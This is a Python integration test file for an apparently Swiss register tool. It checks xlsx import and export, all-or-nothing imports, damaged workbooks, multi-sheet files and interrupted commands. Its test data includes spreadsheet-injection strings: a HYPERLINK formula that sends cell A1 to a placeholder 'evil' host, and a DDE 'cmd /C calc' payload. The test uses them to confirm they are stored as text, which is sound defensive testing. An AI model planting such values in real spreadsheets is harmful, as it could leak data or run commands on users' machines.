"""What the hostile review of the register found, each on real files, a real encrypted folder and the real
command line: no formula ever written into an xlsx, a refused re-import row stops an all-or-nothing import,
an unreadable workbook said as such, several sheets."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from cii_desktop.domain.avs import make_avs
from tests.integration.test_register import row
from tests.integration.test_register_year import cli, new_folder
from tests.support.register import FR

TYPED = {"Remarques": '=HYPERLINK("http://evil/?"&A1,"x")', "Professionnel annonceur": "@SUM(1+1)"}


def typed_workbook(rows: list[list[Any]], headers: list[str] = FR) -> bytes:
    """A register as a person types it in Excel: every text cell a string (a leading "=" typed as text)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for values in [headers, *rows]:
        sheet.append(values)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def cells(path: Path) -> list[tuple[Any, ...]]:
    book = load_workbook(path, read_only=True, data_only=True)
    try:
        return [tuple(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    finally:
        book.close()


def test_text_typed_like_a_formula_is_exported_as_text_and_round_trips(tmp_path: Path) -> None:
    source = tmp_path / "typed.xlsx"
    source.write_bytes(typed_workbook([
        row(**TYPED), row(Nom="Favre", Remarques="+41 79 000 00 00"),
        row(Nom="Moret", Remarques="-5 jours", **{"Professionnel annonceur": "=cmd|' /C calc'!A0"})]))
    first, second = new_folder(tmp_path, "first"), new_folder(tmp_path, "second")
    assert cli("import-register", "--data-dir", str(first), str(source)).returncode == 0
    exported = tmp_path / "export.xlsx"
    done = cli("export-register", "--data-dir", str(first), "--out", str(exported))
    assert done.returncode == 0, done.stderr
    assert "<f>" not in sheet_xml(exported) and "<f " not in sheet_xml(exported)
    texts = {v for r in cells(exported) for v in r if isinstance(v, str)}
    assert {TYPED["Remarques"], "@SUM(1+1)", "+41 79 000 00 00", "-5 jours", "=cmd|' /C calc'!A0"} <= texts
    # export -> import into an empty folder -> export again: the text as typed, still no formula
    assert cli("import-register", "--data-dir", str(second), str(exported)).returncode == 0
    again = tmp_path / "again.xlsx"
    assert cli("export-register", "--data-dir", str(second), "--out", str(again)).returncode == 0
    assert cells(again) == cells(exported) and "<f>" not in sheet_xml(again)
    report = tmp_path / "report.xlsx"
    assert cli("stats", "--data-dir", str(second), "--year", "2026", "--out", str(report)).returncode == 0
    assert "<f>" not in sheet_xml(report)
    template = tmp_path / "template.xlsx"
    assert cli("import-register", "--template", str(template)).returncode == 0
    assert "<f>" not in sheet_xml(template)


def stats(folder: Path) -> dict[str, Any]:
    done = cli("stats", "--data-dir", str(folder), "--year", "2026", "--json")
    assert done.returncode == 0, done.stderr
    figures: dict[str, Any] = json.loads(done.stdout)
    return figures


@pytest.mark.parametrize("language", ["fr", "de"])
def test_a_refused_update_stops_all_or_nothing_and_is_an_error_row(tmp_path: Path, language: str) -> None:
    folder = new_folder(tmp_path, "data")
    source = tmp_path / "register.xlsx"
    source.write_bytes(typed_workbook([row(), row(Nom="Favre", **{"Décision du Bureau": "TRO"})]))
    assert cli("import-register", "--data-dir", str(folder), str(source)).returncode == 0
    before = stats(folder)
    # Rochat's remark changed (an update), Favre's Bureau decision changed (refused): all or nothing
    source.write_bytes(typed_workbook([row(Remarques="Nouvelle remarque"),
                                       row(Nom="Favre", **{"Décision du Bureau": "Refus", "État": ""})]))
    done = cli("import-register", "--data-dir", str(folder), str(source), "--lang", language)
    assert done.returncode == 1, done.stdout
    assert {"fr": "Ligne 3 – Décision du Bureau :", "de": "Zeile 3 – Décision du Bureau:"}[language] in done.stdout
    assert {"fr": "1 avec erreurs", "de": "1 mit Fehlern"}[language] in done.stdout
    assert {"fr": "Rien n'a été importé", "de": "Es wurde nichts importiert"}[language] in done.stdout
    exported = tmp_path / "export.xlsx"
    assert cli("export-register", "--data-dir", str(folder), "--out", str(exported)).returncode == 0
    assert "Nouvelle remarque" not in {v for r in cells(exported) for v in r}  # nothing written
    assert stats(folder) == before
    skipped = cli("import-register", "--data-dir", str(folder), str(source), "--skip-invalid", "--lang", language)
    assert skipped.returncode == 0, skipped.stdout
    assert {"fr": "1 mise à jour, 0 inchangée, 1 refusée (motifs ci-dessus)",
            "de": "1 aktualisiert, 0 unverändert, 1 abgelehnt (Gründe oben)"}[language] in skipped.stdout
    exported.unlink()
    assert cli("export-register", "--data-dir", str(folder), "--out", str(exported)).returncode == 0
    assert "Nouvelle remarque" in {v for r in cells(exported) for v in r}
    assert stats(folder)["round_table"]["decided"] == 1  # Favre's TRO left as it was


@pytest.mark.parametrize("language", ["fr", "de"])
def test_an_unreadable_workbook_is_said_as_such_and_its_error_type_logged(tmp_path: Path, language: str) -> None:
    folder = new_folder(tmp_path, "data")
    good = typed_workbook([row(Remarques="texte")])
    damaged = tmp_path / "cc.xlsx"  # a raw control character in the sheet XML: openpyxl's ParseError
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(damaged, "w") as out:
        for name in src.namelist():
            data = src.read(name)
            out.writestr(name, data.replace(b"texte", b"te\x01xte") if name.startswith("xl/worksheets/") else data)
    done = cli("import-register", "--data-dir", str(folder), str(damaged), "--lang", language)
    assert done.returncode == 1
    assert {"fr": "n'est pas un classeur Excel", "de": "keine Excel-Arbeitsmappe"}[language] in done.stderr
    assert {"fr": "base de données", "de": "Datenbank"}[language] not in done.stderr
    # the exception's type logged for IT (the command line's log is its stderr), never the cell's text
    assert "ParseError" in done.stderr and "texte" not in done.stderr


def test_the_sheet_with_the_register_header_is_read_and_several_are_named(tmp_path: Path) -> None:
    from openpyxl import load_workbook as load

    folder = new_folder(tmp_path, "data")
    book = load(io.BytesIO(typed_workbook([row()])))
    notes = book.create_sheet("Notes", 0)  # a first sheet without the register
    notes.append(["Registre 2026, à compléter"])
    source = tmp_path / "two.xlsx"
    book.save(source)
    done = cli("import-register", "--data-dir", str(folder), str(source), "--lang", "fr")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "1 situation importée" in done.stdout and "Plusieurs feuilles" not in done.stdout
    second = book.copy_worksheet(book.worksheets[1])
    second.title = "Copie"
    book.save(source)
    done = cli("import-register", "--data-dir", str(folder), str(source), "--dry-run", "--lang", "de")
    assert "Datei: Mehrere Blätter haben eine Registerkopfzeile («Sheet», «Copie»): Nur das erste, «Sheet», " \
        "wurde gelesen." in done.stdout, done.stdout
    empty = Workbook()
    empty.active.title = "Feuil1"  # type: ignore[union-attr]
    empty.create_sheet("Feuil2").append(["a", "b"])
    empty.save(source)
    done = cli("import-register", "--data-dir", str(folder), str(source), "--lang", "fr")
    assert done.returncode == 1 and "dans les feuilles : « Feuil1 », « Feuil2 »." in done.stdout, done.stdout


@pytest.mark.parametrize("language", ["fr", "de"])
def test_ctrl_c_after_the_commit_reports_the_import_as_complete(tmp_path: Path, language: str) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    from tests.integration.test_register_year import PASSPHRASE, ROOT

    folder = new_folder(tmp_path, "data")
    source = tmp_path / "register.xlsx"
    source.write_bytes(typed_workbook([row(), row(Nom="Favre"), row(Nom="Moret")]))
    marker = tmp_path / "committed"
    # the test hook of cli_stats: once the import is committed, touch the marker and wait for a signal
    env = {**os.environ, "CII_DESKTOP_PASSPHRASE": PASSPHRASE, "CII_DESKTOP_TEST_PAUSE_AFTER_COMMIT": str(marker)}
    process = subprocess.Popen([sys.executable, "-m", "cii_desktop", "import-register", "--data-dir", str(folder),
                                str(source), "--lang", language], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
    deadline = time.monotonic() + 120
    while not marker.exists() and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert marker.exists()
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 0, (out, err)
    assert {"fr": "3 situations importées", "de": "3 Situationen importiert"}[language] in out
    assert {"fr": "l'import est terminé", "de": "Der Import ist abgeschlossen"}[language] in out
    assert {"fr": "interrompu", "de": "unterbrochen"}[language] not in err
    assert stats(folder)["announced"] == 3


def test_messages_name_what_they_are_about(tmp_path: Path) -> None:
    folder = new_folder(tmp_path, "data")
    missing = tmp_path / "absent.xlsx"
    done = cli("import-register", "--data-dir", str(folder), str(missing), "--lang", "fr")
    assert done.returncode == 1 and f"Fichier introuvable : {missing}" in done.stderr
    source = tmp_path / "register.xlsx"  # ISO dates are accepted like dd.mm.yyyy (domain.dates.parse_date)
    source.write_bytes(typed_workbook([row(**{"Date d'annonce": "2026-02-02", "Date de décision": "2026-02-10"}),
                                       row(Nom="Favre", Résultat="Lotto", État="Terminé")]))
    done = cli("import-register", "--data-dir", str(folder), str(source), "--dry-run", "--lang", "fr")
    result = [line for line in done.stdout.splitlines() if line.startswith("Ligne 3")]
    assert result == ["Ligne 3 – Résultat : Valeur inconnue « Lotto » ; valeurs acceptées : Emploi, Suivi AS, "
                      "Suivi AI, Suivi ORP, Suivi en réseau, Manque de collaboration, Manque de disponibilité, "
                      "En suspens."]  # one message per bad cell, naming the value and the accepted ones
    assert "Ligne 2" not in done.stdout and "(motifs ci-dessus)" not in done.stdout
    assert cli("import-register", "--data-dir", str(folder), str(source), "--skip-invalid").returncode == 0
    # the same person with another AVS number: a dry run says a separate person WOULD be created
    source.write_bytes(typed_workbook([row(**{"N° AVS": make_avs("123456789"), "Date d'annonce": "03.03.2026",
                                              "Date de décision": "04.03.2026"})]))
    done = cli("import-register", "--data-dir", str(folder), str(source), "--dry-run", "--lang", "fr")
    assert "une personne distincte serait créée" in done.stdout and "a été créée" not in done.stdout
    out = tmp_path / "export.xlsx"
    done = cli("export-register", "--data-dir", str(folder), "--out", str(out), "--lang", "de")
    assert done.returncode == 0 and f"{out}: 1 Situation exportiert" in done.stderr
    done = cli("stats", "--data-dir", str(folder), "--from", "2026-01-01", "--to", "31.12.2026", "--json")
    assert done.returncode == 0 and json.loads(done.stdout)["announced"] == 1
